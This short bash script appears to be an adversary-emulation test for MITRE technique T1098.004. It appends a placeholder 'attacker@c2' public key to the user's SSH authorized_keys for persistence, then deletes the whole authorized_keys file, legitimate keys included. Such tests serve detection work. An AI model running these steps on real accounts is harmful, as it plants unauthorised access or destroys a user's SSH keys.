#!/usr/bin/env bash
# tactic: persistence
# technique: T1098.004 Account Manipulation: SSH Authorized Keys
# behaviour: adds the attacker's public key to the account's own authorized_keys
# as: user
# expect: persistence
set -u
mkdir -p "$HOME/.ssh"; chmod 700 "$HOME/.ssh"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIATTACKERKEYFAKE attacker@c2' >> "$HOME/.ssh/authorized_keys"
rm -f "$HOME/.ssh/authorized_keys"
